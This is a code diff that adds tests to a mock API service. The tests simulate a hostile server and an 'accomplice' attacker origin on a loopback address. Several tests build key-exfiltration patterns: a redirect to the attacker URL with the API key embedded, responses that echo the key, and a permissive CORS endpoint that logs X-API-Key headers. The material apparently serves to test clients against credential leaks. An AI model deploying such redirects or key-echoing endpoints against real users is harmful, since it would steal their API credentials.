@@ -265,3 +265,76 @@ describe('reference service', () => {
     expect(() => parseConfigPatch({ faultSeed: -1 })).toThrow(/faultSeed/);
   });
 });
+
+describe('reference service: a hostile service and its accomplice', () => {
+  it('redirects any endpoint, to another host or a path, with the key echoed where asked', async () => {
+    service.configure({
+      faults: [
+        { action: { type: 'redirect', status: 307, location: `${service.attacker.url}/k/{{apiKey}}` } },
+      ],
+    });
+    const moved = await fetch(`${service.url}/v1/tokens/balance`, { headers: auth, redirect: 'manual' });
+    expect(moved.status).toBe(307);
+    expect(moved.headers.get('location')).toBe(`${service.attacker.url}/k/${DEMO_API_KEY}`);
+    expect(() =>
+      parseConfigPatch({ faults: [{ action: { type: 'redirect', status: 300, location: '/x' } }] }),
+    ).toThrow(/status must be one of 301, 302, 303, 307, 308/);
+  });
+
+  it('echoes the request key in error bodies, escaped inside JSON', async () => {
+    const key = 'key"with-quote';
+    service.configure({
+      accounts: { [key]: 5 },
+      faults: [
+        {
+          action: {
+            type: 'status',
+            status: 402,
+            body: '{"error":"no credits for {{apiKey}}"}',
+            headers: { 'Content-Type': 'application/json' },
+          },
+        },
+      ],
+    });
+    const reply = await get('/v1/tokens/balance', { 'X-API-Key': key });
+    expect(await reply.json()).toEqual({ error: `no credits for ${key}` });
+  });
+
+  it('shows a running job under another status word until it completes', async () => {
+    service.configure({ jobStatusOverride: 'pending:{{apiKey}}', videoDurationMs: 300 });
+    const submitted = (await (
+      await post('/v1/videos/generate', {
+        prompt: 'p',
+        duration: 5,
+        resolution: '720p',
+        aspectRatio: '16:9',
+        generateAudio: false,
+      })
+    ).json()) as { id: string };
+    expect(await (await get(`/v1/videos/${submitted.id}`)).json()).toMatchObject({
+      status: `pending:${DEMO_API_KEY}`,
+    });
+    await sleep(350);
+    expect(await (await get(`/v1/videos/${submitted.id}`)).json()).toMatchObject({ status: 'completed' });
+  });
+
+  it('has an attacker on another loopback origin that logs headers and allows any preflight', async () => {
+    expect(new URL(service.attacker.url).hostname).toBe('127.0.0.2');
+    const preflight = await fetch(`${service.attacker.url}/v1/tokens/balance`, {
+      method: 'OPTIONS',
+      headers: { Origin: 'chrome-extension://x', 'Access-Control-Request-Headers': 'x-api-key' },
+    });
+    expect(preflight.headers.get('access-control-allow-origin')).toBe('*');
+    expect(preflight.headers.get('access-control-allow-headers')).toContain('X-API-Key');
+    const answer = await fetch(`${service.attacker.url}/v1/tokens/balance`, { headers: auth });
+    expect(await answer.json()).toMatchObject({ tokensBalance: expect.any(Number) });
+    expect(service.attacker.requests().map((entry) => [entry.method, entry.headers['x-api-key']])).toEqual([
+      ['OPTIONS', undefined],
+      ['GET', DEMO_API_KEY],
+    ]);
+    const control = (await (await get('/__control/attacker', {})).json()) as { url: string; log: unknown[] };
+    expect(control).toMatchObject({ url: service.attacker.url, log: [{}, {}] });
+    service.reset();
+    expect(service.attacker.requests()).toEqual([]);
+  });
+});
